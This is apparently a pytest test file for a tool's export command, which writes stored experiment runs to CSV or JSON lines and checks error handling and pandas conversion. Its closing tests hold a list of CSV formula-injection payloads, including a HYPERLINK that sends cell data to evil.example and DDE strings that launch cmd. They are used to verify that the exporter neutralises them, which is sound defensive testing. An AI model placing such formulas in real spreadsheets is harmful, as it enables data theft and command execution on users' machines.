"""`firstdiv export` and SweepResult.to_pandas: the stored runs out as CSV / JSON lines, checked against the
records they came from; bad inputs are one line, exit 2, and write nothing."""

import csv
import io
import json
import sqlite3
import sys

import pytest
from conftest import TINY

import firstdiv
from firstdiv.errors import InvalidArgument
from firstdiv.lab.export import export, render
from firstdiv.lab.store import Store


@pytest.fixture(scope="module")
def sp(tmp_path_factory):
    path = tmp_path_factory.mktemp("export") / "store" / "runs.db"
    firstdiv.sweep(f"{TINY}:train", "0-2", store=path, name="base")
    firstdiv.sweep(f"{TINY}:train", "0-2", store=path, name="shifted", sets=["shift=0.5", "fail_seed=1"])
    return path


def _records(sp):
    """{(sweep name, seed): record} and {(identity, seed): run id}, read back through the store and sqlite."""
    with Store(sp, create=False) as st:
        recs = {(s.name, r.seed): r for s in st.sweeps() for r in st.records(s, include_failed=True)}
    with sqlite3.connect(sp) as conn:
        ids = {(i, s): n for n, i, s in conn.execute("SELECT id, identity, seed FROM runs")}
    conn.close()
    return recs, ids


def _one_error_line(proc):
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 2 and len(lines) == 1 and lines[0].startswith("firstdiv: error:"), proc.stderr
    return lines[0]


def test_csv_has_one_row_per_run_with_identity_config_and_metrics(sp, cli):
    proc = cli("export", "--store", sp)
    assert proc.returncode == 0, proc.stderr
    reader = csv.DictReader(io.StringIO(proc.stdout))
    rows = list(reader)
    recs, ids = _records(sp)
    assert len(rows) == len(recs) == 6
    head = ["run_id", "sweep", "sweep_id", "workload", "identity", "config_hash"]
    assert reader.fieldnames[:6] == head and "env_hash" in reader.fieldnames and "wall_seconds" in reader.fieldnames
    assert {"config.shift", "config.fail_seed", "metric.val_loss", "metric.val_acc", "code.commit"} <= set(reader.fieldnames)
    assert [(r["sweep"], int(r["seed"])) for r in rows] == sorted(recs)
    for row in rows:
        rec = recs[(row["sweep"], int(row["seed"]))]
        assert int(row["run_id"]) == ids[(rec.identity, rec.seed)]
        assert (row["workload"], row["identity"], row["config_hash"], row["env_hash"], row["status"]) == (
            rec.workload, rec.identity, rec.config_hash, rec.env_hash, rec.status)
        assert row["code.commit"] == (rec.code["commit"] or "") and row["code.version"] == rec.code["version"]
        assert float(row["config.shift"]) == rec.config["shift"]
        assert float(row["wall_seconds"]) == rec.wall_seconds
        for name, value in rec.final.items():
            assert float(row[f"metric.{name}"]) == value  # repr'd floats: exact round trip
        if not rec.ok:
            assert row["metric.val_loss"] == "" and "exploded" in row["error"]
        assert row["exit_code"] == ""  # an in-process run has no child process
    assert [r["status"] for r in rows if r["sweep"] == "shifted"] == ["ok", "failed", "ok"]


def test_a_command_runs_exit_code_is_a_column(tmp_path):
    store = tmp_path / "runs.db"
    script = "import sys, firstdiv; firstdiv.log(val_loss=0.5); sys.exit(3 if sys.argv[1] == '1' else 0)"
    firstdiv.sweep([sys.executable, "-c", script, "{seed}"], seeds=[0, 1], name="cmd", store=store)
    rows = list(csv.DictReader(io.StringIO(export(store))))
    assert [(r["seed"], r["status"], r["exit_code"]) for r in rows] == [("0", "ok", "0"), ("1", "failed", "3")]
    assert [json.loads(line)["exit_code"] for line in export(store, fmt="jsonl").splitlines()] == [0, 3]


def _damage(sp, tmp_path, edit):
    """A copy of the store with the first run of sweep 'base' changed by ``edit(record dict or text)``."""
    copy = tmp_path / "damaged.db"
    copy.write_bytes(sp.read_bytes())
    with sqlite3.connect(copy) as conn:
        run_id, text = conn.execute("SELECT id, record FROM runs ORDER BY id LIMIT 1").fetchone()
        new = edit(text) if isinstance(edit(text), str) else json.dumps(edit(text))
        conn.execute("UPDATE runs SET record=? WHERE id=?", (new, run_id))
    conn.close()
    return copy, run_id


@pytest.mark.parametrize("edit", [lambda t: t[:-9], lambda t: {**json.loads(t), "config": [1]},
                                  lambda t: {**json.loads(t), "final": {"val_loss": "low"}},
                                  lambda t: {k: v for k, v in json.loads(t).items() if k != "seed"}],
                         ids=["truncated-json", "config-a-list", "metric-a-word", "no-seed"])
def test_a_damaged_record_is_named_and_nothing_is_written(sp, tmp_path, cli, edit):
    damaged, run_id = _damage(sp, tmp_path, edit)
    out = tmp_path / "out.csv"
    line = _one_error_line(cli("export", "--store", damaged, "-o", out))
    assert f"run {run_id} " in line and "damaged" in line and f"firstdiv runs --drop {run_id}" in line, line
    assert not out.exists() and sorted(p.name for p in tmp_path.iterdir())[:1] == ["damaged.db"]


def test_records_sqlites_json_refuses_or_older_ones_export_as_the_store_reads_them(sp, tmp_path):
    """A config value of NaN (Python's JSON writes it, SQLite's does not read it) and a record from before a field
    had a default are read the slow way: the same rows as the store's records give."""
    nan_config, _ = _damage(sp, tmp_path, lambda t: {**json.loads(t), "config": {**json.loads(t)["config"], "lr": float("nan")}})
    row = next(csv.DictReader(io.StringIO(export(nan_config, name="base"))))
    assert row["config.lr"] == "nan" and row["metric.val_loss"] != ""
    (tmp_path / "damaged.db").unlink()
    old, _ = _damage(sp, tmp_path, lambda t: {k: v for k, v in json.loads(t).items() if k not in ("status", "exit_code")})
    row = next(csv.DictReader(io.StringIO(export(old, name="base"))))
    assert (row["status"], row["exit_code"]) == ("ok", "")


def test_filters_by_name_and_workload(sp, cli, tmp_path):
    recs, _ = _records(sp)
    out = tmp_path / "shifted.jsonl"
    proc = cli("export", "--store", sp, "--name", "shifted", "--format", "jsonl", "-o", out)
    assert proc.returncode == 0 and f"wrote 3 runs (jsonl) to {out}" in proc.stdout, proc.stderr
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert [(r["sweep"], r["seed"]) for r in rows] == [("shifted", 0), ("shifted", 1), ("shifted", 2)]
    assert all(set(r) == set(rows[0]) for r in rows) and rows[1]["metric.val_loss"] is None
    assert rows[0]["metric.val_loss"] == recs[("shifted", 0)].final["val_loss"]
    workload = recs[("base", 0)].workload
    proc = cli("export", "--store", sp, "--workload", workload, "--name", "base")
    assert [r["sweep"] for r in csv.DictReader(io.StringIO(proc.stdout))] == ["base"] * 3


def test_curves_in_long_form_once_per_run(sp, cli):
    proc = cli("export", "--store", sp, "--curves")
    assert proc.returncode == 0, proc.stderr
    reader = csv.DictReader(io.StringIO(proc.stdout))
    rows = list(reader)
    assert reader.fieldnames == ["run_id", "metric", "step", "value"]
    recs, ids = _records(sp)
    by_id = {ids[(r.identity, r.seed)]: r for r in recs.values()}
    got: dict = {}
    for row in rows:
        got.setdefault((int(row["run_id"]), row["metric"]), []).append((int(row["step"]), float(row["value"])))
    want = {(i, m): list(enumerate(v)) for i, r in by_id.items() for m, v in r.curves.items()}
    assert got == want and len(rows) == sum(len(v) for v in want.values()) > 0


def test_the_python_function_writes_what_the_command_prints(sp, cli, tmp_path):
    text = export(sp, fmt="jsonl", curves=True, name="base", output=tmp_path / "c.jsonl")
    assert (tmp_path / "c.jsonl").read_text() == text == cli("export", "--store", sp, "--curves", "--format", "jsonl",
                                                              "--name", "base").stdout
    assert {json.loads(line)["metric"] for line in text.splitlines()} == {"train_loss", "val_loss", "val_acc"}


def test_nonfinite_and_nested_values_are_spelled_for_each_format():
    row = {"metric.x": float("nan"), "config.layers": [1, 2], "error": None}
    cols = list(row)
    assert json.loads(render(cols, [row], "jsonl")) == {"metric.x": "nan", "config.layers": [1, 2], "error": None}
    assert list(csv.DictReader(io.StringIO(render(cols, [row], "csv")))) == [
        {"metric.x": "nan", "config.layers": "[1, 2]", "error": ""}]


def test_bad_inputs_are_one_line_exit_2_and_write_nothing(sp, cli, tmp_path):
    kept = tmp_path / "kept.csv"
    kept.write_text("before\n")
    for args in (["--name", "nope", "-o", kept], ["--workload", "nope", "-o", kept], ["--format", "xml", "-o", kept],
                 ["--json"], ["-o", tmp_path / "missing" / "x.csv"], ["-o", tmp_path]):
        line = _one_error_line(cli("export", "--store", sp, *args))
        assert len(line) < 300, line
    assert "No sweep named 'nope'" in _one_error_line(cli("export", "--store", sp, "--name", "nope"))
    assert "base" in _one_error_line(cli("export", "--store", sp, "--name", "nope"))  # the names it knows
    assert "No run store" in _one_error_line(cli("export", "--store", tmp_path / "none.db", "-o", tmp_path / "n.csv"))
    assert kept.read_text() == "before\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kept.csv"]  # no output, no temporary file left behind


def _shifted(sp):
    from firstdiv.lab.sweep import load_sweep

    with Store(sp, create=False) as st:
        return load_sweep("shifted", st)


def test_to_pandas_without_pandas_says_how_to_install_it(sp, monkeypatch):
    result = _shifted(sp)
    monkeypatch.setitem(sys.modules, "pandas", None)  # import pandas -> ImportError
    with pytest.raises(InvalidArgument, match=r"pip install pandas") as err:
        result.to_pandas()
    assert "\n" not in str(err.value)


def test_to_pandas_is_a_dataframe_of_the_export_rows(sp):
    pd = pytest.importorskip("pandas", reason="pandas is not installed (pip install pandas)")
    result = _shifted(sp)
    frame = result.to_pandas()
    assert isinstance(frame, pd.DataFrame) and len(frame) == 3
    exported = pd.read_csv(io.StringIO(export(sp, name="shifted"))).drop(columns="run_id")
    assert list(frame.columns) == list(exported.columns) and list(frame.columns)[:2] == ["sweep", "sweep_id"]
    assert frame["seed"].tolist() == [0, 1, 2] and frame["status"].tolist() == ["ok", "failed", "ok"]
    assert frame["seed"].dtype == "int64" and frame["metric.val_loss"].dtype == "float64"
    ok = frame[frame["status"] == "ok"]
    assert ok["metric.val_loss"].tolist() == [r.final["val_loss"] for r in result.records]
    assert pd.isna(frame.loc[1, "metric.val_loss"]) and frame.loc[1, "error"] == result.failed[0].error
    assert frame["config.shift"].tolist() == [0.5, 0.5, 0.5]
    pd.testing.assert_frame_equal(frame[["seed", "status", "metric.val_loss", "config.shift"]],
                                  exported[["seed", "status", "metric.val_loss", "config.shift"]])


#: text a spreadsheet would run as a formula (OWASP's CSV injection): each starts with = + - @ TAB or CR
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1,2", '="a"""', "-", "+", "@"]


def test_csv_text_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers():
    inert = {f"config.f{i}": v for i, v in enumerate(FORMULAS)}
    numbers = {"metric.a": float("-inf"), "metric.b": -1.5, "metric.c": -3, "metric.d": float("nan"),
               "config.e": "-1.5", "config.g": "-inf", "config.h": "+2", "config.i": "-1e-05", "error": None}
    plain = {"sweep": "a=b", "workload": "x-1", "config.j": "[1, 2]", "config.k": " =1"}
    row = {**inert, **numbers, **plain}
    cols = list(row)
    got = next(csv.DictReader(io.StringIO(render(cols, [row], "csv"))))
    assert {c: got[c] for c in inert} == {c: "'" + v for c, v in inert.items()}
    assert {c: got[c] for c in numbers} == {"metric.a": "-inf", "metric.b": "-1.5", "metric.c": "-3", "metric.d": "nan",
                                            "config.e": "-1.5", "config.g": "-inf", "config.h": "+2",
                                            "config.i": "-1e-05", "error": ""}
    assert {c: got[c] for c in plain} == plain
    line = json.loads(render(cols, [row], "jsonl"))  # JSON lines hold the text exactly
    assert {c: line[c] for c in (*inert, *plain)} == {**inert, **plain} and line["metric.a"] == "-inf"


def test_a_stored_run_with_formula_text_exports_it_inert(tmp_path, cli):
    from firstdiv.lab.record import RunRecord

    store = tmp_path / "runs.db"
    with Store(store) as st:
        info = st.upsert_sweep(FORMULAS[0], "ident", "w.py:train", {"config": {}}, [0])
        st.add(RunRecord(workload=FORMULAS[1], seed=0, config={"x": FORMULAS[2], "lr": -0.5}, config_hash="c",
                         identity="ident", code={}, env={}, env_hash="e", data_identity=None, eval_contract=None,
                         eval_fingerprint=None, eval_fields=[], curves={FORMULAS[3]: [1.0, -2.0]},
                         final={FORMULAS[3]: -2.0}, directions={}, grad_norm={}, throughput={}, wall_seconds=1.0,
                         status="failed", error=FORMULAS[4]), sweep=info)
    [row] = list(csv.DictReader(io.StringIO(cli("export", "--store", store).stdout)))
    assert (row["sweep"], row["workload"], row["config.x"], row["error"]) == tuple("'" + f for f in FORMULAS[:3]) + (
        "'" + FORMULAS[4],)
    assert row["config.lr"] == "-0.5" and row[f"metric.{FORMULAS[3]}"] == "-2.0"
    curves = list(csv.DictReader(io.StringIO(cli("export", "--store", store, "--curves").stdout)))
    assert [(r["metric"], r["value"]) for r in curves] == [("'" + FORMULAS[3], "1.0"), ("'" + FORMULAS[3], "-2.0")]
    assert json.loads(export(store, fmt="jsonl"))["workload"] == FORMULAS[1]  # JSON lines keep the text exactly
